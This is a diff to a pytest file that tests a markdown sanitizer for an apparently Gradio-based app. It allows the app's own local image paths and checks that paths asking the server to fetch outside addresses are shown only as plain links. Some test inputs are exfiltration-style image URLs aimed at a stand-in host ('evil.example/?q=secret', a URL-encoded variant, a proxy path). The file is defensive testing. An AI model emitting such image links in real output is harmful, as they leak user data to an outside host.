@@ -55,6 +55,7 @@ def test_an_image_inside_a_link_is_text_in_that_link():
 
 
 @pytest.mark.parametrize("image", [
+    "![chart](/gradio_api/file=/tmp/chart.png)",
     "![dot](data:image/png;base64,iVBORw0KGgo=)",
     "![ok](https://images.example/ok.png)",
     "![ok](https://cdn.images.example/ok.png)",
@@ -64,9 +65,10 @@ def test_the_app_s_own_data_and_allowed_images_show(image):
     assert safe_markdown(image, policy) == image
 
 
-def test_not_even_the_app_s_own_paths_show_as_images():
+def test_an_own_path_that_asks_the_server_to_fetch_elsewhere_does_not_show():
     """Gradio's /gradio_api/file=<url> fetches any public address on the server's side."""
-    for address in ("/gradio_api/file=https://evil.example/?q=secret", "/gradio_api/file=/tmp/a.png",
+    for address in ("/gradio_api/file=https://evil.example/?q=secret",
+                    "/gradio_api/file=https%3A//evil.example/", "/gradio_api/proxy=https://x.example/",
                     "chart.png"):
         shown = safe_markdown(f"![x]({address})", NONE)
         assert images_in(shown) == [] and shown == f"[🖼 image]({address})"
